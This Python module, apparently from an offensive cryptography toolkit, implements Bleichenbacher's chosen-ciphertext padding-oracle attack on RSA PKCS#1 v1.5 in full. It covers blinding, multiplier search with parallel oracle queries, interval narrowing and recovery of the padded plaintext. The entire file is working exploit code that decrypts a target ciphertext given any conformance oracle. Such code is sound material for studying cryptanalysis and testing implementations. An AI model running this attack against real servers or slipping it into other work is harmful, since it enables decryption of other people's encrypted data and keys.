"""
Chosen-ciphertext attack on RSA PKCS#1 v1.5 (Bleichenbacher 1998)
http://archiv.infsec.ethz.ch/education/fs08/secsem/bleichenbacher98.pdf

The oracle tells whether a ciphertext decrypts to a value starting with
00 02, that is whether the plaintext m satisfies 2B <= m < 3B.
Variable names follow the paper.
"""

import secrets
from concurrent.futures import ThreadPoolExecutor

import gmpy2

from ..config import AttackConfig
from ..core.errors import OracleInconsistent, SearchExhausted
from ..utils.helpers import ceil_div, floor_div


class BleichenbacherSolver:
    """
    Recovers m from c = m^e mod n, given a PKCS#1 conformance oracle and
    the public key (n, e).
    """

    def __init__(self, n, e, config=None):
        self.n = n
        self.e = e
        self.config = config or AttackConfig()
        self.k = (n.bit_length() + 7) // 8
        self.B = 2 ** (8 * (self.k - 2))
        self.queries = 0
        self.iterations = 0
        self._executor = None

    def _spend(self, amount):
        cap = self.config.max_queries
        if cap is not None and self.queries + amount > cap:
            raise SearchExhausted(
                f"query cap of {cap} reached after {self.iterations} iterations",
                queries=self.queries, iterations=self.iterations,
            )
        self.queries += amount

    def _multiply(self, c, s):
        return (c * int(gmpy2.powmod(s, self.e, self.n))) % self.n

    def _search(self, c, oracle, start, stop=None):
        """
        Smallest s in [start, stop) such that c * s^e is conforming,
        or None if the range runs out.
        """
        s = start
        if self._executor is None:
            while stop is None or s < stop:
                self._spend(1)
                if oracle(self._multiply(c, s)):
                    return s
                s += 1
            return None

        # Speculative batches; results come back in multiplier order, so the
        # first accepted one is the smallest.
        batch = self.config.workers * 4
        while stop is None or s < stop:
            candidates = range(s, s + batch if stop is None else min(s + batch, stop))
            self._spend(len(candidates))
            results = self._executor.map(lambda si: oracle(self._multiply(c, si)), candidates)
            for si, accepted in zip(candidates, results):
                if accepted:
                    return si
            s = candidates[-1] + 1
        return None

    def _blind(self, c, oracle):
        """Step 1: find s0 such that c * s0^e is conforming."""
        self._spend(1)
        if oracle(c):
            return c, 1
        while True:
            s0 = secrets.randbelow(self.n - 2) + 2
            c0 = self._multiply(c, s0)
            self._spend(1)
            if oracle(c0):
                return c0, s0

    def _next_multiplier(self, c0, oracle, M, s, i):
        """Step 2: the next conforming multiplier after s."""
        n, B2, B3 = self.n, 2 * self.B, 3 * self.B
        if i == 1:
            # Step 2.a
            return self._search(c0, oracle, ceil_div(n, B3))
        if len(M) >= 2:
            # Step 2.b
            return self._search(c0, oracle, s + 1)
        # Step 2.c
        a, b = M[0]
        r = ceil_div(2 * (b * s - B2), n)
        while True:
            found = self._search(c0, oracle, ceil_div(B2 + r * n, b), ceil_div(B3 + r * n, a))
            if found is not None:
                return found
            r += 1

    def _narrow(self, M, s):
        """Step 3: keep the parts of each interval compatible with s."""
        n, B2, B3 = self.n, 2 * self.B, 3 * self.B
        Mi = set()
        for a, b in M:
            r = ceil_div(a * s - B3 + 1, n)
            upper = floor_div(b * s - B2, n)
            while r <= upper:
                lo = max(a, ceil_div(B2 + r * n, s))
                hi = min(b, floor_div(B3 - 1 + r * n, s))
                if lo <= hi:
                    Mi.add((lo, hi))
                r += 1
        return sorted(Mi)

    def decrypt(self, c, oracle):
        """
        Runs the attack and returns the padded plaintext as an integer.

        :param c: The target ciphertext.
        :param oracle: Callable taking a ciphertext and returning True if it
            decrypts to a conforming plaintext. Objects with an accepts()
            method are accepted as well.
        """
        oracle = getattr(oracle, "accepts", oracle)
        log = self.config.log
        n, B2, B3 = self.n, 2 * self.B, 3 * self.B

        self.queries = 0
        self.iterations = 0
        if self.config.workers > 1:
            self._executor = ThreadPoolExecutor(max_workers=self.config.workers)
        try:
            c0, s0 = self._blind(c, oracle)
            if s0 != 1:
                log(f"[*] Blinded ciphertext with s0={s0}")

            M = [(B2, B3 - 1)]
            s = 1
            i = 1
            while True:
                if i > self.config.max_iterations:
                    raise SearchExhausted(
                        f"no solution after {self.config.max_iterations} iterations",
                        queries=self.queries, iterations=self.iterations,
                    )
                self.iterations = i

                s = self._next_multiplier(c0, oracle, M, s, i)
                M = self._narrow(M, s)
                if not M:
                    raise OracleInconsistent(
                        f"interval set became empty at iteration {i}, the oracle is not conforming"
                    )
                if i == 1 or i % 10 == 0:
                    log(f"[*] Iteration {i}: s={s}, {len(M)} interval(s), {self.queries} queries")

                if len(M) == 1 and M[0][0] == M[0][1]:
                    break
                i += 1
        finally:
            if self._executor is not None:
                self._executor.shutdown(wait=True)
                self._executor = None

        m = (M[0][0] * int(gmpy2.invert(s0, n))) % n
        log(f"[+] Recovered plaintext after {self.iterations} iterations and {self.queries} queries")
        return m
